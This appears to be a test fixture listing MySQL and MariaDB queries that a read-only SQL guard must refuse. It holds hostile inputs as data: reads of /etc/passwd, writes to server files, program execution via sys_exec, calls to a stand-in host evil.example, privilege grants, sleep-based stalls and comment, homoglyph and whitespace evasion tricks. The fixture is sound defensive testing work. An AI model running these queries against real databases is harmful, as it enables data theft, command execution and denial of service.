-- Queries the MySQL and MariaDB guard refuses. Each starts after a line "-- @next why".

-- @next inserts
insert into accounts (name) values ('mallory')
-- @next updates
update accounts set is_admin = 1 where name = 'mallory'
-- @next deletes
delete from audit_trail
-- @next replaces
replace into accounts values (1, 'mallory')
-- @next two statements
select 1; drop table accounts
-- @next two reading statements are still two
select 1; select 2
-- @next WITH in front of DELETE
with old as (select id from sessions) delete from sessions where id in (select id from old)
-- @next WITH in front of UPDATE
with x as (select 1 as a) update t join x on t.a = x.a set t.b = 1
-- @next writes a server file
select * from accounts into outfile '/tmp/accounts.csv'
-- @next writes a server file in the old place of INTO
select name into outfile '/tmp/accounts.csv' from accounts
-- @next dumps into a server file
select 'x' into dumpfile '/tmp/x'
-- @next a number's dot does not hide INTO
select 1.into outfile '/tmp/x'
-- @next stores into a variable
select count(*) into @n from accounts
-- @next assigns a variable
select @n := count(*) from accounts
-- @next assigns a variable, spread over lines
select @n /* now */ := /* this */ 1
-- @next TABLE into a file
table accounts into outfile '/tmp/x'
-- @next locks rows
select * from accounts for update
-- @next locks rows in a subquery
select * from (select * from accounts for update) a
-- @next locks rows, MySQL 8
select * from accounts for share nowait
-- @next locks rows, older word
select * from accounts lock in share mode
-- @next a version comment is executed
select 1 /*!50000 into outfile '/tmp/x' */
-- @next a version comment without a number
/*! delete from accounts */
-- @next a MariaDB comment is executed there
select 1 /*M! into outfile '/tmp/x' */
-- @next a MariaDB comment with a version
select 1 /*M!100100 for update */
-- @next an optimizer hint sets variables
select /*+ set_var(sql_mode = '') */ 1
-- @next a comment that is not closed
select 1 /* unclosed
-- @next -- without a space is no comment
select 1 --1 into outfile '/tmp/x'
-- @next a comment ends with the line
select 1 # harmless
into outfile '/tmp/x'
-- @next a comment of dashes ends with the line
select 1 -- harmless
for update
-- @next a string that is not closed
select 'unclosed
-- @next a backslash before the quote means two things, depending on sql_mode
select 'a\' , sleep(10) -- '
-- @next the same in double quotes
select "a\" , sleep(10) -- "
-- @next the same behind escaped backslashes
select 'a\\\' into outfile ''/tmp/x'' -- '
-- @next a quoted name that is not closed
select `unclosed from t
-- @next reads a server file
select load_file('/etc/passwd')
-- @next reads a server file, odd case and spacing
select LoAd_FiLe /* x */ ('/etc/passwd')
-- @next reads a server file, quoted name
select `load_file`('/etc/passwd')
-- @next sleeps
select sleep(600)
-- @next sleeps in a condition
select * from accounts where if(1 = 1, sleep(600), 0)
-- @next keeps the server busy
select benchmark(1000000000, sha2('x', 512))
-- @next takes a lock
select get_lock('x', 10)
-- @next frees a lock
select release_lock('x')
-- @next frees all locks
select release_all_locks()
-- @next waits for a replica
select master_pos_wait('binlog.000001', 4)
-- @next waits for a GTID
select wait_for_executed_gtid_set('x', 10)
-- @next sets the last insert id
select last_insert_id(42)
-- @next advances a sequence
select nextval(accounts_seq)
-- @next advances a sequence, standard words
select next value for accounts_seq
-- @next advances a sequence, Oracle mode
select accounts_seq.nextval
-- @next sets a sequence
select setval(accounts_seq, 1)
-- @next runs a program through a well-known loadable function
select sys_exec('id')
-- @next runs a program and shows what it says
select sys_eval('id')
-- @next a function of the client's
select do_it()
-- @next a function of the client's in another database
select app.do_it(1)
-- @next a qualified function with spaces and comments
select app /* x */ . do_it /* y */ (1)
-- @next a function of the client's in ORDER BY
select name from accounts order by app_rank_and_log(name)
-- @next a function of the client's in a HAVING
select count(*) from accounts group by name having do_it(name)
-- @next a function of the client's under ODBC braces
select {fn do_it()}
-- @next a space makes a built-in's name a stored function
select count (*) from accounts
-- @next a quoted built-in's name is a stored function
select `count`(*) from accounts
-- @next a look-alike function name, Cyrillic letters
select lоwer(name) from accounts
-- @next a look-alike function name that folds to ASCII
select ſleep(10)
-- @next a no-break space is part of a name
select sleep (1)
-- @next ANALYSE is a procedure
select * from accounts procedure analyse()
-- @next calls a procedure
call nightly_job()
-- @next DO evaluates
do sleep(10)
-- @next SET
set session transaction read write
-- @next ends the read-only transaction
commit
-- @next begins another transaction
start transaction read write
-- @next prepares
prepare p from 'delete from accounts'
-- @next executes
execute p
-- @next executes at once, MariaDB
execute immediate 'delete from accounts'
-- @next a compound statement, MariaDB
begin not atomic delete from accounts; end
-- @next a handler
handler accounts open
-- @next loads a file
load data infile '/etc/passwd' into table t
-- @next loads a file of this computer
load data local infile '/etc/passwd' into table t
-- @next runs while it analyses, MariaDB
analyze select * from accounts
-- @next runs while it analyses, MySQL 8
explain analyze select * from accounts
-- @next explains a writing statement
explain delete from accounts
-- @next explains what another session runs
explain for connection 7
-- @next an unknown function under EXPLAIN
explain select do_it()
-- @next creates a table
create table t as select * from accounts
-- @next drops
drop table accounts
-- @next truncates
truncate table accounts
-- @next alters a user
alter user auditor identified by 'x'
-- @next grants
grant all on *.* to mallory
-- @next kills
kill 7
-- @next flushes
flush privileges
-- @next resets
reset master
-- @next installs a plugin
install plugin x soname 'x.so'
-- @next shuts down
shutdown
-- @next changes database
use mysql
-- @next locks tables
lock tables accounts write
-- @next a client command
delimiter //
-- @next another client command
\! id
-- @next SHOW of something unknown
show everything
-- @next SHOW with a function of the client's
show tables where do_it()
-- @next SHOW with INTO
show variables into outfile '/tmp/x'
-- @next a parameter nobody fills in
select * from accounts where id = ?
-- @next nothing but a comment
-- select 1
-- @next only an executed comment
/*!50000 drop table accounts */
-- @next XA
xa start 'x'
-- @next a savepoint
savepoint s
-- @next checks a table and may mark it
check table accounts
-- @next rebuilds a table
optimize table accounts
-- @next clones the server
clone local data directory = '/tmp/x'
-- @next a statement in parentheses
(delete from accounts)
-- @next parentheses that close too early
select 1) into outfile '/tmp/x' -- (
-- @next writes keys of the keyring
select keyring_key_store('k', 'AES', 'x')
-- @next elects a primary
select group_replication_set_as_primary('x')
-- @next fails over a connection
select asynchronous_connection_failover_add_source('c', 'h', 1, '', 1)
-- @next reads a file of this computer as XML
load xml infile '/tmp/x' into table t
-- @next no SQL
list all users please
-- @next a no-break space is part of a name, in front of the keyword's function
select sleep(1)
-- @next a decimal number ends where INTO begins
select 1.5into outfile '/tmp/x'
-- @next a number that begins with its point ends where INTO begins
select .5into outfile '/tmp/x'
-- @next a number with an exponent ends where INTO begins
select 1e5into outfile '/tmp/x'
-- @next a signed exponent ends where INTO begins
select 1e+5into outfile '/tmp/x'
-- @next a decimal exponent ends where INTO begins
select 1.5e-3into @n
-- @next a decimal number ends where a lock begins
select * from accounts where 1.5lock in share mode
-- @next a decimal number ends where a shared lock begins
select * from accounts where id > .5for share
-- @next a number in a limit ends where INTO begins
select 1 from accounts limit 1,1e0into dumpfile '/tmp/x'
-- @next a number ends where a procedure begins
select * from accounts where 1.0procedure analyse()
-- @next a comment that begins with a slash is closed by the next end
select 1 /*/ */ into outfile '/tmp/x' -- */
-- @next an executed comment without a space behind a letter
select 1 from accounts where 1/*!50000 or sleep(10)*/
-- @next an executed comment with a six digit version
select 1 /*!080000 into outfile '/tmp/x' */
-- @next an executed comment inside another
select 1 /*!50000 /*!50000 for update */ */
-- @next an executed comment that hides its end
select 1 /*! '*/' into outfile '/tmp/x' */
-- @next a version that only MariaDB executes
select /*M!100301 nextval(s), */ 1
-- @next a hint that waits
select /*+ MAX_EXECUTION_TIME(0) */ 1
-- @next a hint of a nested query
select (select /*+ SET_VAR(foreign_key_checks = 0) */ 1)
-- @next assigns a variable in a condition
select * from accounts where (@a := id) > 0
-- @next assigns several variables
select @a := 1, @b := @a + 1
-- @next stores into two variables
select id, name into @a, @b from accounts limit 1
-- @next stores a table constructor
values row(1, 2) into @a, @b
-- @next stores in the middle of a union
select 1 union select 2 into outfile '/tmp/x'
-- @next stores from parentheses
(select 1) into @a
-- @next a file with every clause
select * from accounts into outfile '/tmp/x' character set utf8mb4 fields terminated by ',' lines terminated by '\n'
-- @next reads a table and locks it, table command
table accounts for update
-- @next locks rows of one table and skips others
select * from accounts a for update of a skip locked
-- @next shares a lock over a comment
select * from accounts for/**/share
-- @next deletes and shows (MariaDB)
delete from accounts returning id
-- @next inserts and shows (MariaDB)
insert into accounts values (2) returning id
-- @next replaces and shows (MariaDB)
replace into accounts values (1, 'x') returning *
-- @next empties a history (MariaDB)
delete history from accounts
-- @next a statement's own settings (MariaDB)
set statement max_statement_time = 1 for delete from accounts
-- @next a statement's own settings around a read (MariaDB)
set statement sql_mode = 'ANSI_QUOTES' for select 1
-- @next the next value, over comments
select next /* x */ value /* y */ for accounts_seq
-- @next the previous value's function that only this session has
select lastval(accounts_seq)
-- @next reads a table by a handler
handler accounts read first
-- @next closes a handler
handler accounts close
-- @next evaluates several
do 1, get_lock('x', 1)
-- @next is a lock free
select is_free_lock('x'), is_used_lock('x')
-- @next tries a lock of the locking service
select service_get_write_locks('ns', 'a', 0)
-- @next waits for a source
select source_pos_wait('binlog.000001', 4, 10)
-- @next waits for a GTID (MariaDB)
select master_gtid_wait('0-1-1', 10)
-- @next keeps the server busy in an argument
select concat('a', benchmark(1000000000, md5('x')))
-- @next sleeps in a derived table
select * from (select sleep(10)) x
-- @next sleeps in a CTE
with x as (select sleep(10) as s) select s from x
-- @next sleeps in ORDER BY
select id from accounts order by sleep(10)
-- @next sleeps in LIMIT's neighbour
select id from accounts group by id having sleep(10) limit 1
-- @next sleeps in a window
select sum(1) over (partition by sleep(10)) from accounts
-- @next sleeps in a JSON path's document
select * from json_table(sleep(10), '$' columns (a int path '$.a')) j
-- @next sleeps in a row constructor
select row(1, 2) = row(1, sleep(10))
-- @next sleeps in MATCH's text
select match (name) against (sleep(10)) from accounts
-- @next sleeps in an interval
select now() + interval sleep(10) day
-- @next sleeps in VALUES
values row(sleep(10))
-- @next sleeps in SHOW
show tables where sleep(10) = 0
-- @next sleeps in SHOW's LIKE
show status where variable_name = concat('a', sleep(10))
-- @next reads a file in a SHOW
show variables where value = load_file('/etc/passwd')
-- @next a function with blanks of every kind
select load_file
	('/etc/passwd')
-- @next a function behind a comment of dashes
select sleep -- x
(10)
-- @next a function behind a hash comment
select sleep#
(10)
-- @next a function of the server's helper schema
select sys.ps_thread_account(1)
-- @next a procedure that runs SQL given as text
call sys.execute_prepared_stmt('delete from accounts')
-- @next runs SQL at another server (Spider)
select spider_direct_sql('delete from accounts', 't', 'host "evil.example"')
-- @next runs commands of an engine (Mroonga)
select mroonga_command('table_remove accounts')
-- @next runs a model of the server
select sys.ml_predict_row('{}', 'm', null)
-- @next asks a web server by a loadable function
select http_get('http://evil.example/')
-- @next makes a key pair
select create_asymmetric_priv_key('RSA', 1024)
-- @next sets the id of an insert
select last_insert_id(id + 1) from accounts
-- @next a quoted name with a parenthesis
select `sleep`(10)
-- @next a name with a dollar sign that is no function of the server's
select sleep$(10)
-- @next a dollar sign in front of a number
select $1
-- @next explains what writes, in every word
explain extended update accounts set name = 'x'
-- @next explains into a variable (MySQL 8.1)
explain format = json into @plan select 1
-- @next describes what writes
describe delete from accounts
-- @next desc of an insert
desc insert into accounts values (1)
-- @next analyses as JSON, which runs it (MariaDB)
analyze format = json delete from accounts
-- @next explains a connection (MariaDB)
show explain for 7
-- @next analyses a connection (MariaDB)
show analyze for 7
-- @next reads the binary log
show binlog events
-- @next runs a binary log's event
binlog 'xx=='
-- @next signals
signal sqlstate '45000'
-- @next removes logs
purge binary logs before now()
-- @next changes the source
change master to master_host = 'evil.example'
-- @next changes the source (MySQL 8.4)
change replication source to source_host = 'evil.example'
-- @next stops replication
stop replica
-- @next restarts
restart
-- @next locks the instance
lock instance for backup
-- @next a backup stage (MariaDB)
backup stage start
-- @next renames
rename table accounts to gone
-- @next renames a user
rename user a to b
-- @next imports a table
import table from '/tmp/x.sdi'
-- @next repairs
repair table accounts
-- @next assigns a cache
cache index accounts in hot
-- @next opens a cursor
open c
-- @next diagnostics into a variable
get diagnostics @n = number
-- @next drops what is prepared
deallocate prepare p
-- @next sets a password
set password for root = 'x'
-- @next takes on a role
set role admin
-- @next a braces call
{call nightly_job()}
-- @next a stored function in the code's language (MySQL 9)
create function f() returns int language javascript as $$ return 1 $$
-- @next dollar quotes (MySQL 9)
select $$ x $$
-- @next a call in a partition's list
select * from accounts partition (p0, sleep(10))
-- @next a nested comment that MySQL ends at the first end
select 1 /* a /* b */ into outfile '/tmp/x' */
-- @next a comment of dashes without a blank behind a number
select 5--5 into @x
-- @next an invisible letter in a name
select name as `aㅤb` from accounts
-- @next a tab that is no tab
select	sleep(1)
-- @next a wide blank between words
select　sleep(1)
